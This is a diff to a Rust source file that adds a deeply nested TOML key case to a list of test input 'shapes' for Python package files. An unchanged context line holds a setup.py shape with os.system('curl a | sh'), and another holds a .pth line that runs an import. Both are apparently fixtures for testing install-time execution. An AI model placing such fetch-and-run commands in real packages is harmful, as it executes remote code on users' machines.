@@ -327,6 +327,7 @@ pub const SHAPES: &[Shape] = &[
     shape("tables", "a-1/pyproject.toml", "", "[a#]\n"),
     shape("tables inside tables", "a-1/pyproject.toml", "[a", ".a"),
     shape("brackets", "a-1/pyproject.toml", "a=", "["),
+    nested("keys inside tables", "a-1/pyproject.toml", 80, ("\na.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a={", "a=1", "}")),
     shape("lines that run", "a-1/a.pth", "", "import a#; a\n"),
     shape("commands", "a-1/setup.py", "from setuptools import setup\nimport os\n", "os.system('curl a | sh')\n"),
 ];
